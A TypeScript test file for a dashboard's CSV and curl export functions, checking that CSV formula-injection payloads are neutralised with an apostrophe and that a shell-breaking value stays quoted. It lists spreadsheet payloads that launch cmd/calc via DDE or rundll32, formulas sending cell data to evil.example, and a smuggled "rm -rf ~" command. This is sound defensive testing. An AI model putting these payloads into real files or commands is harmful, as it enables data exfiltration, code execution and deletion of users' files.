import fc from "fast-check";
import { expect, test } from "vitest";
import { csvOf, curlOf } from "../../dashboard/figures/model/table.ts";
import { cutRows } from "../../shared/files/delimited.ts";

/** What spreadsheets have been made to run (OWASP, PayloadsAllTheThings and reports against other dashboards). */
const payloads = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@A1",
  "|cmd",
  "%0A=1+1",
  " =1+1",
  "  =1+1",
  "\t=1+1",
  "\n=1+1",
  "\r=1+1",
  "\r\n=1+1",
  "\u00a0=1+1",
  "\u2003=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
  '="a"&"b"',
  "=A1;=B1",
  "=1,2",
  '="""',
  "=ROW()",
  '=DDE("cmd";"/C calc";"!A0")',
  '=DDE("cmd","/C calc","!A0")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=msexcel|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "-@SUM(1)",
  "+@SUM(1)",
  "=+1",
  "=-1",
  "=@A1",
];

/** The cells that a spreadsheet reads. */
const cellsIn = (csv: string) =>
  cutRows(csv.replace(/^\ufeff/, ""), { separator: ",", from: 0, isLast: true, maxRows: 1_000 }).rows;

test.each(payloads)("%j is no formula in a file that we write", (payload) => {
  const [row] = cellsIn(csvOf([["name", payload, 1]]));
  expect(row?.length).toBe(3);
  expect(row?.[1]).toBe(`'${payload}`);
});

test("numbers stay numbers, below zero too; nothing is an empty cell", () => {
  expect(csvOf([["n", -12.5, 0, null, 3e-7]])).toBe("\ufeffn,-12.5,0,,3e-7\r\n");
});

test("whatever the cells hold is read back, but for the apostrophe before a formula", () => {
  const text = fc
    .string({ unit: "grapheme", minLength: 1, maxLength: 12 })
    .filter((one) => one.trim() !== "" && !one.includes("\r"));
  fc.assert(
    fc.property(
      fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
      (rows) => {
        const read = cellsIn(csvOf(rows));
        expect(
          read.map((row) => row.map((cell, index) => cell.replace(/^'/, "") || cell || String(index))),
        ).toEqual(
          rows.map((row) => row.map((cell, index) => cell.replace(/^'/, "") || cell || String(index))),
        );
      },
    ),
  );
});

test("the command holds no key, and no address leaves its quotes", () => {
  const curl = curlOf("https://candor.example", "/v1/scores?property[plan]=a';rm -rf ~;'");
  expect(curl).toBe(
    `curl -g 'https://candor.example/v1/scores?property[plan]=a%27;rm -rf ~;%27' -H "Authorization: Bearer $CANDOR_KEY"`,
  );
});
